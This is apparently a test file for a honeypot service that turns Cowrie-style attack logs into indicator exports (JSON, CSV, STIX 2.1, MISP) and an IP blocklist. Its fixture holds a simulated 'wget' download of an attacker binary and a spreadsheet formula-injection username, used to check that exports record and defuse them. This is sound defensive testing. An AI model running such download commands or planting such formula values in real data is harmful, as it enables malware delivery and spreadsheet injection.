import { describe, expect, test } from "bun:test";
import { EventStreamClient, getJson, startTestCore, type TestCore } from "../helpers";

async function ingest(core: TestCore, lines: object[]): Promise<void> {
  using c = await EventStreamClient.connect(core.ports.event, { acks: true });
  c.send(lines.map((l) => JSON.stringify(l)));
  await c.ack(lines.length);
}

const SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const URL_FETCHED = "http://198.51.100.4/bins/x86?it's=1";
const login = (src_ip: string, username: string, password: string, eventid = "cowrie.login.failed") => ({ eventid, src_ip, username, password, session: "s1" });

/** Cowrie-shaped traffic: a busy bot from 8.8.8.8 that downloads a file, one login from Chinanet, and a hostile username. */
async function attack(core: TestCore) {
  await ingest(core, [
    login("8.8.8.8", "root", "123456"),
    login("8.8.8.8", "root", "123456"),
    login("8.8.8.8", "admin", "admin", "cowrie.login.success"),
    { eventid: "cowrie.command.input", src_ip: "8.8.8.8", input: `wget ${URL_FETCHED}` },
    { eventid: "cowrie.session.file_download", src_ip: "8.8.8.8", url: URL_FETCHED, shasum: SHA, outfile: `var/lib/cowrie/downloads/${SHA}` },
    login("218.92.0.1", "ubnt", "ubnt"),
    login("203.0.113.7", "=HYPERLINK(\"http://x\")", "p,w"),
  ]);
}

const UUID = "[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}";
const RFC3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;

describe("indicators", () => {
  test("JSON: addresses with first and last seen, counts, country and ASN, credentials, URLs and hashes", async () => {
    await using core = await startTestCore();
    await attack(core);
    const res = await getJson(`${core.api}/api/v1/indicators`);
    expect(res.status).toBe(200);
    const hour = Math.floor(Date.now() / 3_600_000) * 3_600_000;
    expect(res.body.window).toBe("7d");
    expect(res.body.geo_attribution.country).toContain("DB-IP");
    const byIp = Object.fromEntries(res.body.indicators.map((i: any) => [i.ip, i]));
    expect(res.body.indicators.map((i: any) => i.ip)).toEqual(["8.8.8.8", "203.0.113.7", "218.92.0.1"]);
    expect(byIp["8.8.8.8"]).toEqual({
      ip: "8.8.8.8",
      first_seen: new Date(hour).toISOString(),
      last_seen: expect.stringMatching(RFC3339),
      count: 5,
      country: "US",
      asn: 15169,
      as_org: expect.stringMatching(/Google/),
      credentials: [
        { username: "root", password: "123456", count: 2 },
        { username: "admin", password: "admin", count: 1 },
      ],
      urls: [URL_FETCHED],
      sha256: [SHA],
    });
    expect(byIp["218.92.0.1"]).toMatchObject({ count: 1, country: "CN", asn: 4134, credentials: [{ username: "ubnt", password: "ubnt", count: 1 }], urls: [], sha256: [] });
    const min2 = await getJson(`${core.api}/api/v1/indicators?min_count=2`);
    expect(min2.body.indicators.map((i: any) => i.ip)).toEqual(["8.8.8.8"]);
    const bad = await getJson(`${core.api}/api/v1/indicators?format=xml`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe("bad_request");
  });

  test("CSV by Accept: one row per address, quoted per RFC 4180, formulas defused", async () => {
    await using core = await startTestCore();
    await attack(core);
    const res = await fetch(`${core.api}/api/v1/indicators`, { headers: { accept: "text/csv" } });
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const rows = (await res.text()).split("\r\n");
    expect(rows[0]).toBe("ip,first_seen,last_seen,count,country,asn,as_org,credentials,urls,sha256");
    expect(rows[1]).toStartWith("8.8.8.8,");
    expect(rows[1]).toEndWith(`,5,US,15169,Google LLC,root:123456 admin:admin,${URL_FETCHED},${SHA}`);
    // The hostile username: apostrophe first (no formula), quotes doubled, the comma inside quotes.
    expect(rows[2]).toContain(`,"'=HYPERLINK(""http://x""):p,w",`);
    expect(rows.at(-1)).toBe("");
  });

  test("STIX 2.1 bundle: ids, spec_version, indicator patterns, stable ids across exports", async () => {
    await using core = await startTestCore();
    await attack(core);
    const get = async () => {
      const res = await fetch(`${core.api}/api/v1/indicators?format=stix`);
      expect(res.headers.get("content-type")).toBe("application/stix+json;version=2.1");
      return (await res.json()) as any;
    };
    const bundle = await get();
    expect(bundle.type).toBe("bundle");
    expect(bundle.id).toMatch(new RegExp(`^bundle--${UUID}$`));
    expect(bundle.spec_version).toBeUndefined(); // a 2.1 bundle has none (it was 2.0's)
    const [identity, ...indicators] = bundle.objects;
    expect(identity).toMatchObject({ type: "identity", spec_version: "2.1", name: "HoneyBee Core", identity_class: "system" });
    expect(identity.id).toMatch(new RegExp(`^identity--${UUID}$`));
    for (const o of indicators) {
      // The properties STIX 2.1 requires of an indicator, in their formats.
      expect(o.type).toBe("indicator");
      expect(o.spec_version).toBe("2.1");
      expect(o.id).toMatch(new RegExp(`^indicator--${UUID}$`));
      for (const k of ["created", "modified", "valid_from"]) expect(o[k]).toMatch(RFC3339);
      expect(o.pattern_type).toBe("stix");
      expect(o.created_by_ref).toBe(identity.id);
      expect(o.indicator_types).toEqual(["malicious-activity"]);
    }
    expect(indicators.map((o: any) => o.pattern)).toEqual([
      "[ipv4-addr:value = '8.8.8.8']",
      "[url:value = 'http://198.51.100.4/bins/x86?it\\'s=1']",
      `[file:hashes.'SHA-256' = '${SHA}']`,
      "[ipv4-addr:value = '203.0.113.7']",
      "[ipv4-addr:value = '218.92.0.1']",
    ]);
    expect(new Set(indicators.map((o: any) => o.id)).size).toBe(indicators.length);
    const again = await get();
    expect(again.objects.map((o: any) => o.id)).toEqual(bundle.objects.map((o: any) => o.id));
    expect(again.id).not.toBe(bundle.id);
  });

  test("MISP event: ip-src, url and sha256 attributes with the data's credit", async () => {
    await using core = await startTestCore();
    await attack(core);
    const res = await getJson(`${core.api}/api/v1/indicators?format=misp`);
    expect(res.status).toBe(200);
    const e = res.body.Event;
    expect(e).toMatchObject({ threat_level_id: "3", analysis: "2", distribution: "0", published: false });
    expect(e.uuid).toMatch(new RegExp(`^${UUID}$`));
    expect(e.date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(e.info).toContain("HoneyBee Core");
    expect(e.Attribute.map((a: any) => [a.type, a.category, a.value, a.to_ids])).toEqual([
      ["ip-src", "Network activity", "8.8.8.8", true],
      ["url", "Payload delivery", URL_FETCHED, true],
      ["sha256", "Payload delivery", SHA, true],
      ["ip-src", "Network activity", "203.0.113.7", true],
      ["ip-src", "Network activity", "218.92.0.1", true],
      ["comment", "Other", expect.stringContaining("DB-IP"), false],
    ]);
    for (const a of e.Attribute) expect(a.uuid).toMatch(new RegExp(`^${UUID}$`));
  });

  test("blocklist: plain text, one address per line, window and minimum count", async () => {
    await using core = await startTestCore();
    await attack(core);
    const all = await fetch(`${core.api}/api/v1/blocklist`);
    expect(all.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(await all.text()).toBe("203.0.113.7\n218.92.0.1\n8.8.8.8\n");
    expect(await (await fetch(`${core.api}/api/v1/blocklist?window=1h&min_count=3`)).text()).toBe("8.8.8.8\n");
    expect(await (await fetch(`${core.api}/api/v1/blocklist?min_count=100`)).text()).toBe("");
    const bad = await getJson(`${core.api}/api/v1/blocklist?window=forever`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toContain("window must be");
  });
});
